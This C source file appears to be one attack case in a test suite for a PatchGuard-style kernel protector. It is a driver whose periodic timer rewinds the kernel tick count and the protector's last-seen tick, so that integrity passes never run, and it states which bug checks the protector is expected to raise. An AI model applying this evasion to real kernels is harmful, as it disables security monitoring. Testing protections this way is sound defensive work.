/* attack_a33_rewind (A33): stop time without touching the hardware. A periodic
 * timer of the driver takes the kernel's tick count (found in the code of
 * the exported ticks()) back by one on every tick, and with it the tick
 * PatchGuard saw last, so the count never moves, no timer ever comes due
 * and no pass runs, while every tick still looks like "the next one".
 * Expected: 0x109 type 0x101 (the watchdog sees the tick stand still) or
 * 0x17 (the TSC cross-check). */
#include "attack_pg.h"

static struct ktimer rewinder;
static struct dpc rewinder_dpc;
static volatile uint64_t *tick_count;
static struct pg_state *state;

static void rewind(struct dpc *d, void *ctx)
{
	uint64_t f = a_cli();
	*tick_count -= 1;
	state->tick_seen -= 1;
	timer_set(&rewinder, 10000000ull, 10000000ull); /* due again at the next tick */
	a_restore(f);
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	tick_count = a_find_tick_count();
	state = a_find_pg();
	if (!tick_count || !state) {
		printk("attack_a33: tick count or PatchGuard's state not found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	dpc_init(&rewinder_dpc, rewind, NULL);
	timer_init(&rewinder, &rewinder_dpc);
	timer_set(&rewinder, 10000000ull, 10000000ull);
	printk("attack_a33: the tick count is rewound on every tick\n");
	a_patched("attack_a33");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
